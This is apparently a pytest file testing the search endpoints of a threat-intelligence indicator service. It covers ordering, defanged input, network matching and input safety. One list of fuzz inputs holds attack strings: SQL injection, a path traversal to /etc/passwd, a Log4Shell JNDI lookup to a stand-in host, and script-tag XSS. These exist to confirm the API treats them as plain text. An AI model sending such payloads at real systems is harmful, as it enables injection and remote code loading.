"""`/iocs?q=` and `?value=`: what is found, in which order, whatever is typed."""

from __future__ import annotations

from dataclasses import replace

import pytest
import pytest_asyncio

from intel.records import Sighting
from tests.api.running import Running
from tests.cases import each
from tests.contract.store.builders import make_article

SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


async def stock(api: Running) -> None:
    """Values that `evil.example` reaches in every class of match."""
    await api.publish("exact", "domain evil.example", at=1)
    await api.publish("host", "url https://evil.example/gate.php", "email drop@evil.example", at=2)
    await api.publish("below", "domain mail.evil.example", at=3)
    await api.publish("title", "ip 203.0.113.9", title="What evil.example was used for", at=4)
    await api.publish("other", "domain evil-corp.test", at=5)


@pytest_asyncio.fixture
async def stocked(api: Running) -> Running:
    await stock(api)
    return api


@pytest.mark.promise("search.order-by-class")
async def test_a_search_orders_exact_then_parts_of_the_value_then_articles(api: Running) -> None:
    await stock(api)
    found = await api.values(q="evil.example")
    assert found[0] == "evil.example"
    assert set(found[1:4]) == {"mail.evil.example", "https://evil.example/gate.php", "drop@evil.example"}
    assert found[1] == "mail.evil.example"
    assert found[4:] == ["203.0.113.9"]


@pytest.mark.promise("search.order-by-class")
async def test_within_a_class_more_sources_come_first_then_the_newest(api: Running) -> None:
    await api.publish("one", "domain a.kestrel.example", source="One", at=1)
    await api.publish("two", "domain a.kestrel.example", source="Two", at=2)
    await api.publish("three", "domain b.kestrel.example", at=3)
    await api.publish("four", "domain c.kestrel.example", at=4)
    assert await api.values(q="kestrel") == ["a.kestrel.example", "c.kestrel.example", "b.kestrel.example"]


@pytest.mark.promise("search.defanged")
@each(
    "q",
    [
        "evil[.]example",
        "evil(.)example",
        "EVIL.EXAMPLE",
        "hxxps://evil[.]example/gate.php",
        "evil[dot]example",
        "ｅｖｉｌ.example",
    ],
)
async def test_defanged_and_differently_written_input_finds_the_same(stocked: Running, q: str) -> None:
    assert "https://evil.example/gate.php" in await stocked.values(q=q)


@pytest.mark.promise("search.domain-finds")
async def test_a_domain_finds_itself_its_subdomains_urls_and_mailboxes_but_no_lookalike(api: Running) -> None:
    await stock(api)
    await api.publish("lookalike", "domain notevil.example", "domain evil.example.test")
    found = set(await api.values(q="evil.example", type="domain"))
    assert {"evil.example", "mail.evil.example"} <= found
    assert "notevil.example" not in found


@pytest.mark.promise("search.ip-and-network")
async def test_an_ip_finds_its_urls_and_a_network_its_addresses(api: Running) -> None:
    await api.publish("one", "ip 198.51.100.7", "ip 198.51.101.7", "url http://198.51.100.7:8080/a", "ip 2001:db8::7")
    assert await api.values(q="198.51.100.7") == ["198.51.100.7", "http://198.51.100.7:8080/a"]
    assert await api.values(q="198.51.100.0/24", type="ip") == ["198.51.100.7"]
    assert await api.values(q="198[.]51[.]100[.]0/24", type="ip") == ["198.51.100.7"]
    assert await api.values(q="2001:db8::/32") == ["2001:db8::7"]
    assert set(await api.values(q="198.51.0.0/16", type="ip")) == {"198.51.100.7", "198.51.101.7"}


@pytest.mark.promise("search.words", "search.every-word-must-match")
async def test_a_word_finds_labels_titles_sources_and_malware_names(api: Running) -> None:
    near = Sighting("domain", "evil-corp.example", "Emotet called evil-corp.example.", ("Emotet",), 0)
    await api.publish("one", near, title="Harbour thieves", source="Kestrel Weekly")
    for q in ("evil", "corp", "harbour", "HARBOUR thieves", "kestrel", "emotet", "evil harbour emotet"):
        assert await api.values(q=q) == ["evil-corp.example"], q
    for q in ("evilcorp", "harbou", "vil", "harbour absent"):
        assert await api.values(q=q) == [], q


@pytest.mark.promise("search.phrase-and-prefix")
async def test_quotes_keep_words_together_and_a_star_is_a_prefix(api: Running) -> None:
    await api.publish("one", "domain a.example", title="Thieves in the harbour")
    assert await api.values(q='"in the harbour"') == ["a.example"]
    assert await api.values(q='"harbour thieves"') == []
    assert await api.values(q="harb*") == ["a.example"]
    assert await api.values(q="*harb") == []


@pytest.mark.promise("search.word-definition")
async def test_words_fold_case_keep_diacritics_and_take_cjk_by_character(api: Running) -> None:
    await api.publish("one", "domain a.example", title="Straße nach Málaga 情報漏えい")
    for q in ("STRASSE", "málaga", "情報", "報", "漏え"):
        assert await api.values(q=q) == ["a.example"], q
    assert await api.values(q="malaga") == []


@pytest.mark.promise("search.newest-20-articles")
async def test_only_the_newest_twenty_articles_lend_their_words(api: Running) -> None:
    await api.publish("first", "domain a.example", title="Bygone", at=0)
    for n in range(1, 20):
        await api.publish(f"n{n}", "domain a.example", title="Later", at=n)
    assert await api.values(q="bygone") == ["a.example"]
    await api.publish("n20", "domain a.example", title="Later", at=20)
    assert await api.values(q="bygone") == []


@pytest.mark.promise("search.no-words-finds-nothing")
@each("q", ["??", "*", "*:*", '"', '""', "-", "()", "🙂", "&&", "\\", "[]", "\x01", "\ufffd"])
async def test_a_search_without_any_word_finds_nothing(stocked: Running, q: str) -> None:
    answer = await stocked.get("/iocs", q=q)
    assert (answer.status_code, answer.json()["items"], answer.json()["total"]) == (200, [], 0)


HARMLESS = (
    'evil" OR "1"="1',
    "'; DROP TABLE iocs; --",
    "evil AND NOT example",
    "NEAR(evil example, 5)",
    "value:evil*",
    "{value} : evil",
    "^evil",
    "evil OR *",
    "(evil",
    '"evil',
    "evil\\",
    "/.*evil.*/",
    "evil~2",
    "evil^10",
    "_exists_:value",
    '{"match_all": {}}',
    "../../etc/passwd",
    "%00%27",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "evil" + "*" * 400,
    "[" * 512,
    "\ud83d",
    "\u202eelpmaxe.live",
    "0/0",
    "1.2.3.4/33",
    "::/0",
    "0.0.0.0/0",
    "a" * 512,
    "- " * 256,
    "a " * 256,
    '"' * 511,
    "\u0301" * 512,
    "http://[::1",
    "http://[",
    "xn--",
    "xn--" + "9" * 100 + ".example",
    "ﷺ" * 512,
)


@pytest.mark.promise("search.any-input-is-safe")
@each("q", HARMLESS)
async def test_no_input_is_an_operator_or_an_error(stocked: Running, q: str) -> None:
    raw = q.encode("utf-8", "surrogatepass")
    for path in ("/iocs", "/articles", "/awareness"):
        for quoted in ("".join(f"%{byte:02X}" for byte in raw),):
            answer = await stocked.client.get(f"/api/v1{path}?q={quoted}")
            assert answer.status_code == 200, (path, answer.text)


@pytest.mark.promise("search.too-long-or-nul")
@each("q", ["a" * 513, "evil\0example", "\0", " " * 500 + "a" * 100])
async def test_too_long_a_search_or_a_nul_is_refused(api: Running, q: str) -> None:
    for path in ("/iocs", "/articles", "/awareness"):
        answer = await api.get(path, q=q)
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid_parameter"), path
        assert answer.json()["errors"][0]["field"] == "q"


@pytest.mark.promise("iocs.value-exact")
async def test_an_exact_value_is_found_alone_plain_or_defanged(api: Running) -> None:
    await stock(api)
    for value in ("evil.example", "evil[.]example", "EVIL.example."):
        assert await api.values(value=value) == ["evil.example"], value
    assert await api.values(value="hxxps://evil[.]example/gate.php") == ["https://evil.example/gate.php"]
    assert await api.values(value="evil") == []
    assert await api.values(value="evil.example", type="url") == []
    assert (await api.get("/iocs", value="a\0b")).status_code == 422
    assert (await api.get("/iocs", value="a" * 5000)).status_code in (200, 422)


@pytest.mark.promise("iocs.value-exact", "limits.who.search-10-per-hour")
async def test_an_exact_value_counts_as_a_search_and_a_blank_one_does_not(api: Running) -> None:
    assert '"search"' in (await api.get("/iocs", value="evil.example")).headers["ratelimit-policy"]
    blank = await api.get("/iocs", value=" ")
    assert '"list"' in blank.headers["ratelimit-policy"]
    assert blank.json()["query"]["value"] is None


@pytest.mark.promise("records.most-recent-article")
async def test_an_item_shows_its_most_recent_article_and_counts(api: Running) -> None:
    await api.publish("old", "domain a.example", title="Old", source="One", at=1)
    await api.publish("new", "domain a.example", title="New", source="Two", at=2)
    (item,) = await api.items("/iocs", q="a.example")
    assert (item["article"]["title"], item["article"]["source_name"]) == ("New", "Two")
    assert (item["sightings"], item["sources"]) == (2, 2)


@pytest.mark.promise("records.sources-independent")
async def test_syndicated_copies_count_as_one_source(api: Running) -> None:
    await api.publish("original", "domain a.example", source="One", cluster="same text", at=1)
    await api.publish("copy", "domain a.example", source="Two", cluster="same text", at=2)
    await api.publish("again", "domain a.example", source="One", at=3)
    (item,) = await api.items("/iocs")
    assert (item["sightings"], item["sources"]) == (3, 1)


@pytest.mark.promise("search.words")
async def test_articles_are_searched_by_title_text_and_source(api: Running) -> None:
    await api.publish("one", title="Harbour thieves", text="They took cranes.", source="Kestrel Weekly", at=1)
    await api.publish("two", title="Elsewhere", text="Nothing.", at=2)
    for q in ("harbour", "cranes", "kestrel weekly", '"took cranes"', "cran*"):
        assert [item["title"] for item in await api.items("/articles", q=q)] == ["Harbour thieves"], q


async def test_a_lone_surrogate_in_a_stored_title_harms_no_answer(api: Running) -> None:
    article = replace(make_article("odd"), title="a\ufffdb <script>\x1b[31m")
    await api.store.articles.save(article, [Sighting("domain", "a.example", "…")], [])
    assert (await api.items("/iocs"))[0]["article"]["title"] == article.title
